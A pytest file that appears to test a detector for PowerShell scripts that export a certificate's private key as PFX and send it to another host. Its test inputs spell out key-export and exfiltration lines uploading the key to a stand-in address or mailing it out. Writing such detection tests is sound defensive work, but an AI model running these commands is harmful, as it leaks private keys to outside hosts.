"""Scripts that send data to another host."""

from __future__ import annotations

import pytest

from tests.core.lines import ids, judged_script

TAKE = "$d = [Convert]::ToBase64String($c.Export('Pfx'))"
URL = "http://203.0.113.5/up"


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        (f"{TAKE}; Invoke-RestMethod {URL} -Method Post -Body $d", True),
        (f"{TAKE}; iwr -Uri {URL} -Body $d -Method PUT", True),
        (f"{TAKE}; (New-Object Net.WebClient).UploadString('{URL}', $d)", True),
        (f"{TAKE}; Send-MailMessage -To a@b.example -Body $d", True),
        (f"Invoke-WebRequest {URL} -OutFile a.txt; {TAKE}", False),
        (TAKE, False),
    ],
)
def test_a_key_in_hand_is_sent(text: str, sent: bool) -> None:
    assert ids(judged_script(text)) == ["export_key", *["key_leaves_host"] * sent]


def test_what_is_sent_without_a_key_is_no_matter() -> None:
    assert ids(judged_script(f"Invoke-RestMethod {URL} -Method Post -Body (Get-ChildItem Cert:\\)")) == []
